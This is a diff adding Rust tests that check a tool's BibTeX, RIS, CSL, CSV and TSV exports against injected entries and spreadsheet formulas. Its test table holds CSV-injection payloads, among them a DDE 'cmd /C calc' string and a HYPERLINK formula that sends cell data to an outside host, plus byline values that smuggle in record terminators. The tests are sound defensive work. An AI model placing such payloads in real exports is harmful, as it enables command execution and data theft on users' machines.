@@ -111,6 +111,65 @@ fn ris_records() {
     assert!(!evil.replace("\r\n", "").contains(['\r', '\n']));
 }
 
+/// The hostile hit: every text of it ends what it stands in.
+fn evil_hit() -> Hit {
+    let mut hit = hit(EVIL, Some(DAY));
+    let article = &mut hit.stored.article;
+    let evil = || Some(EVIL.to_owned());
+    article.origin.file = EVIL.into();
+    article.byline = vec![
+        EVIL.into(),
+        "Jane\n}}\n@book{a, and Doe".into(),
+        "A\r\nER  - \r\nTY  - BOOK".into(),
+    ];
+    (article.source, article.section, article.page) = (evil(), evil(), evil());
+    (article.edition, article.summary, article.url) = (evil(), evil(), evil());
+    (article.lang, article.dateline, article.wire) = (evil(), evil(), evil());
+    hit
+}
+
+#[test]
+fn no_text_adds_an_entry_or_a_field() {
+    let written_once = |format| written(format, &[], &[evil_hit()]);
+    let bibtex = written_once(Format::Bibtex);
+    let lines: Vec<&str> = bibtex.trim_end().lines().collect();
+    let (first, last) = (lines[0], lines[lines.len() - 1]);
+    assert!(first.starts_with("@article{") && last == "}", "{bibtex}");
+    let mut names = Vec::new();
+    for line in &lines[1..lines.len() - 1] {
+        let (name, value) = line.trim_start().split_once(" = ").unwrap();
+        names.push(name);
+        let value = value.strip_suffix(',').unwrap();
+        let mut depth = 0_i32;
+        for (at, sign) in value.char_indices() {
+            depth += i32::from(sign == '{') - i32::from(sign == '}');
+            let is_inside = depth > 0 || at + 1 == value.len();
+            assert!(
+                is_inside || !value.starts_with('{'),
+                "{name} ends before its end: {value}"
+            );
+        }
+        assert_eq!(depth, 0, "{line}");
+    }
+    let mut once = names.clone();
+    once.sort_unstable();
+    once.dedup();
+    assert_eq!(once.len(), names.len(), "{names:?}");
+
+    let ris = written_once(Format::Ris);
+    let is_record_line = |line: &str| line.is_empty() || line.get(2..6) == Some("  - ");
+    assert!(ris.split("\r\n").all(is_record_line), "{ris}");
+    for tag in ["TY", "ER", "TI", "ID"] {
+        let count = ris
+            .split("\r\n")
+            .filter(|line| line.starts_with(tag))
+            .count();
+        assert_eq!(count, 1, "{tag}: {ris}");
+    }
+    let csl: serde_json::Value = serde_json::from_str(&written_once(Format::Csl)).unwrap();
+    assert_eq!(csl.as_array().unwrap().len(), 1);
+}
+
 #[test]
 fn csl_is_one_array_however_many_hits() {
     for count in 0..3 {
@@ -198,6 +257,103 @@ fn tables_keep_their_columns() {
         written(Format::Lines, &["title", "score"], &hits[1..]),
         "\t7.31\n"
     );
+}
+
+/// Texts, and whether a spreadsheet would take them for a formula.
+const FORMULAS: &[(&str, bool)] = &[
+    ("=1+1", true),
+    ("=HYPERLINK(\"http://x/?\"&A1,\"click\")", true),
+    ("+1", true),
+    ("-2+3+cmd|' /C calc'!A0", true),
+    ("@SUM(A1)", true),
+    ("\t=1", true),
+    ("\r=1", true),
+    ("\n=1", true),
+    ("  =1", true),
+    ("\u{feff}=1", true),
+    ("\x01=1", true),
+    ("＝1", true),
+    ("＠x", true),
+    ("'=1", true),
+    ("''@x", true),
+    ("-30 degrees", true),
+    ("'tis the season", false),
+    ("'", false),
+    ("1=1", false),
+    ("a -b", false),
+    ("", false),
+    ("“=1”", false),
+];
+
+/// What a program does to have a text as it is: it takes one apostrophe off, where there is one of ours.
+fn as_it_is(cell: &str) -> &str {
+    let Some(rest) = cell.strip_prefix('\'') else {
+        return cell;
+    };
+    let signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+    let text = rest.trim_start_matches('\'');
+    match text.starts_with(['\t', '\r', '\n'])
+        || text
+            .trim_start_matches(['\u{feff}', '\x01'])
+            .trim_start()
+            .starts_with(signs)
+    {
+        true => rest,
+        false => cell,
+    }
+}
+
+#[test]
+fn a_text_is_no_formula_and_can_be_had_as_it_is() {
+    for &(text, is_formula) in FORMULAS {
+        let mut evil = hit(text, None);
+        evil.stored.article.byline = vec![text.into(), "Jane".into()];
+        let fields = ["title", "rank", "byline"];
+        let csv = written(Format::Csv, &fields, std::slice::from_ref(&evil));
+        let row = csv::Reader::from_reader(csv.as_bytes())
+            .records()
+            .next()
+            .unwrap()
+            .unwrap();
+        assert_eq!(
+            row[0].starts_with('\''),
+            is_formula || text.starts_with('\''),
+            "{text:?} {csv:?}"
+        );
+        let kept: String = text
+            .chars()
+            .filter(|c| !c.is_control() || "\n\t".contains(*c))
+            .collect();
+        assert_eq!(as_it_is(&row[0]), kept, "{csv:?}");
+        assert_eq!(&row[1], "1");
+        assert_eq!(
+            row[2].starts_with('\''),
+            is_formula || text.starts_with('\''),
+            "{csv:?}"
+        );
+        let tsv = written(Format::Tsv, &fields, std::slice::from_ref(&evil));
+        let cell = tsv.lines().nth(1).unwrap().split('\t').next().unwrap();
+        assert_eq!(
+            cell.starts_with('\''),
+            is_formula || text.starts_with('\''),
+            "{tsv:?}"
+        );
+        // What is for `cut` and `awk`, and what is for programs, stays.
+        let lines = written(Format::Lines, &["title"], std::slice::from_ref(&evil));
+        assert_eq!(lines, format!("{}\n", one_line(text)));
+        let fields = chosen(&["title"]).unwrap();
+        assert_eq!(object(&evil, &fields)["title"], text);
+    }
+}
+
+#[test]
+fn other_separators_do_not_split_a_cell() {
+    for text in ["a;=1+1", "a\t=1+1", "a,b", "a\"b", "a\nb"] {
+        let csv = written(Format::Csv, &["title"], &[hit(text, None)]);
+        assert_eq!(csv, format!("title\n\"{}\"\n", text.replace('"', "\"\"")));
+    }
+    let csv = written(Format::Csv, &["title"], &[hit("", None)]);
+    assert_eq!(csv, "title\n\"\"\n", "a row of one empty cell is a row");
 }
 
 #[test]
